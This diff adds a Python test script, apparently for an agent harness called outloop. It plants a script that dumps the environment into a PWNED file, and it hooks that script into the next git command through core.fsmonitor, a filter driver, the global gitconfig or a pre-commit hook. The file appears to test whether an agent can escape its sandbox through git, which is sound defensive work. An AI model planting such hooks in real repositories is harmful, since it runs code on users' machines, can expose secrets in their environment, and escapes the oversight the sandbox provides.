@@ -1,0 +1,37 @@
+"""Test agent: plants code for outloop's (or the user's) next git command to run.
+
+Argument: what to plant — fsmonitor | hook | global | filter. The planted program
+writes the environment it sees to PWNED (an absolute path, the second argument).
+"""
+
+import os
+import stat
+import subprocess
+import sys
+from pathlib import Path
+
+what, pwned = sys.argv[1], sys.argv[2]
+script = Path(pwned + ".sh")
+script.write_text(f"#!/bin/sh\nenv > {pwned}\ncat\n")
+script.chmod(script.stat().st_mode | stat.S_IEXEC)
+Path("innocent.txt").write_text("a change to commit\n")
+git_dir = Path(
+    subprocess.run(
+        ["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True, check=True
+    ).stdout.strip()
+).resolve()
+if what == "fsmonitor":
+    subprocess.run(["git", "config", "core.fsmonitor", str(script)], check=True)
+elif what == "filter":
+    subprocess.run(["git", "config", "filter.evil.clean", str(script)], check=True)
+    Path(".gitattributes").write_text("*.txt filter=evil\n")
+elif what == "global":
+    home = Path(os.environ["HOME"])
+    with (home / ".gitconfig").open("a") as handle:
+        handle.write(f"[core]\n\tfsmonitor = {script}\n")
+elif what == "hook":
+    hook = git_dir / "hooks" / "pre-commit"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text(f"#!/bin/sh\nenv > {pwned}\n")
+    hook.chmod(0o755)
+print("planted", what)
